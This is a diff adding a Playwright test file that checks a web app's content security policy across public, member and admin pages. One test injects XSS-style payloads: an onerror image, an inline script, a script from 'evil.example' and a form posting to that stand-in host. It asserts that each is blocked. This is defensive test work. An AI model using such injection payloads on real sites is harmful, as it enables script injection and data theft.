@@ -1,0 +1,173 @@
+"""The content security policy in a real browser: what our pages need is allowed, and what is injected is not."""
+
+import re
+from collections.abc import Callable, Iterator
+
+import pytest
+from playwright.sync_api import Page, Response, expect
+
+from tests.browser import pages
+from tests.live import Customer, RunningStack
+
+SignUp = Callable[[Page], Customer]
+NewPage = Callable[..., Page]
+
+OPEN_TO_ALL = ["/", "/accounts/login/", "/accounts/signup/", "/accounts/password/reset/", "/api/docs"]
+OF_MEMBERS = [
+    "/reservations/",
+    "/reservations/new/",
+    "/billing/",
+    "/accounts/email/",
+    "/accounts/password/change/",
+    "/accounts/mfa/",
+    "/accounts/mfa/totp/activate/",
+    "/accounts/mfa/webauthn/add/",
+    "/accounts/sessions/",
+    "/accounts/tokens/",
+]
+WATCH = """
+window.violations = [];
+document.addEventListener("securitypolicyviolation", (event) => {
+    window.violations.push(`${event.effectiveDirective} ${event.blockedURI} ${event.sourceFile || ""}`);
+});
+"""
+
+
+@pytest.fixture
+def watched(page: Page) -> Iterator[Page]:
+    """A page that notes what the policy forbids; the console is watched by `page` itself."""
+    page.add_init_script(WATCH)
+    yield page
+    assert violations(page) == []
+
+
+def violations(page: Page) -> list[str]:
+    found: list[str] = page.evaluate("window.violations")
+    return found
+
+
+def check(page: Page, path: str) -> None:
+    """The page, with all that it loads: nothing was forbidden, and nothing came from elsewhere."""
+    asked: list[str] = []
+
+    def note(answer: Response) -> None:
+        asked.append(answer.url)
+
+    page.on("response", note)
+    answer = page.goto(path)
+    page.wait_for_load_state("networkidle")
+    page.remove_listener("response", note)
+    assert answer is not None
+    assert answer.ok, path
+    assert "script-src 'self';" in answer.headers["content-security-policy"]
+    assert violations(page) == [], path
+    base = re.match(r"https?://[^/]+", page.url)
+    assert base
+    assert [url for url in asked if not url.startswith((base.group(), "data:"))] == [], path
+
+
+def test_open_pages_need_nothing_that_is_forbidden(watched: Page) -> None:
+    for path in OPEN_TO_ALL:
+        check(watched, path)
+
+
+def test_members_pages_need_nothing_that_is_forbidden(watched: Page, sign_up_in: SignUp) -> None:
+    sign_up_in(watched)
+    for path in OF_MEMBERS:
+        check(watched, path)
+
+
+def test_the_admin_and_the_monitor_need_nothing_that_is_forbidden(
+    watched: Page, sign_up_in: SignUp, stack: RunningStack
+) -> None:
+    person = sign_up_in(watched)
+    watched.goto("/accounts/mfa/totp/activate/")
+    give_factor(stack, person)
+
+    for path in ("/monitor/", "/admin/", "/admin/accounts/user/", "/admin/accounts/user/add/", "/admin/compute/node/"):
+        check(watched, path)
+
+    watched.goto("/admin/accounts/workspace/")  # its script chooses all rows, and folds the filters
+    watched.locator("#action-toggle").check()
+    expect(watched.locator("#result_list tbody input.action-select").first).to_be_checked()
+    watched.goto("/admin/accounts/membership/add/")  # a field that asks the server while one types
+    watched.locator(".field-workspace .select2-selection").click()
+    expect(watched.locator(".select2-results__option").first).to_be_visible()
+
+
+def give_factor(stack: RunningStack, person: Customer) -> None:
+    """Make somebody staff, whose session was opened with a second factor."""
+    script = f"""
+import time
+from importlib import import_module
+from allauth.mfa.models import Authenticator
+from django.conf import settings
+from django.contrib.sessions.models import Session
+from accounts.models import User
+user = User.objects.get(username={person.username!r})
+User.objects.filter(pk=user.pk).update(is_staff=True, is_superuser=True)
+factor = Authenticator.objects.create(user=user, type="totp", data={{"secret": "x"}})
+store = import_module(settings.SESSION_ENGINE).SessionStore
+for row in Session.objects.all():
+    if row.get_decoded().get("_auth_user_id") == str(user.pk):
+        session = store(row.session_key)
+        proof = {{"method": "mfa", "type": "totp", "id": factor.pk, "at": time.time(), "reauthenticated": True}}
+        session["account_authentication_methods"] = [*session.get("account_authentication_methods", []), proof]
+        session["account_authentication_methods_user"] = str(user.pk)
+        session.save()
+"""
+    stack.run_manage("shell", "-c", script)
+
+
+def test_htmx_the_form_and_the_theme_work_under_it(watched: Page, sign_up_in: SignUp) -> None:
+    sign_up_in(watched)
+    pages.fill_in(watched, "nginx", name="under a policy")
+    expect(watched.locator("#quote .price")).to_be_visible()
+    watched.locator("label:has(input[name=storage][value=C3])").click()
+    expect(watched.locator("[data-when^='storage=']").first).to_be_attached()
+    watched.locator("label:has(input[name=storage][value=C1])").click()
+
+    path = pages.reserve(watched)
+    pages.expect_running(watched)
+    watched.locator("[data-theme-toggle]").first.click()
+
+    assert watched.evaluate("document.documentElement.dataset.bsTheme") in {"dark", "light"}
+    assert violations(watched) == []
+    pages.delete(watched, path)
+
+
+def test_the_documents_page_shows_the_api_and_asks_it(watched: Page) -> None:
+    check(watched, "/api/docs")
+
+    expect(watched.locator(".opblock-summary", has_text="/api/v1/reservations").first).to_be_visible()
+    watched.locator(".opblock-summary", has_text="/api/v1/sizes").click()
+    expect(watched.locator(".responses-table").first).to_contain_text("application/problem+json")
+
+
+def test_what_is_injected_does_nothing(new_page: NewPage, sign_up_in: SignUp) -> None:
+    page = new_page(expected=404, errors=("Content Security Policy",))
+    page.add_init_script(WATCH)
+    sign_up_in(page)
+    page.goto("/reservations/")
+
+    page.evaluate("""() => {
+        const at = (html) => document.querySelector("main").insertAdjacentHTML("beforeend", html);
+        at('<img src="/nothing.png" onerror="window.injected = 1">');
+        at('<p id="styled" style="position: fixed">x</p>');
+        const inline = document.createElement("script");
+        inline.textContent = "window.injected = 2";
+        document.body.append(inline);
+        const foreign = document.createElement("script");
+        foreign.src = "https://evil.example/x.js";
+        document.body.append(foreign);
+        const form = document.createElement("form");
+        form.action = "https://evil.example/";
+        document.body.append(form);
+        form.submit();
+    }""")
+    page.wait_for_function("window.violations.length >= 5")
+
+    kinds = {line.split()[0] for line in violations(page)}
+    assert {"script-src-elem", "script-src-attr", "style-src-attr", "form-action"} <= kinds
+    assert page.evaluate("window.injected") is None
+    assert page.evaluate("getComputedStyle(document.querySelector('#styled')).position") == "static"
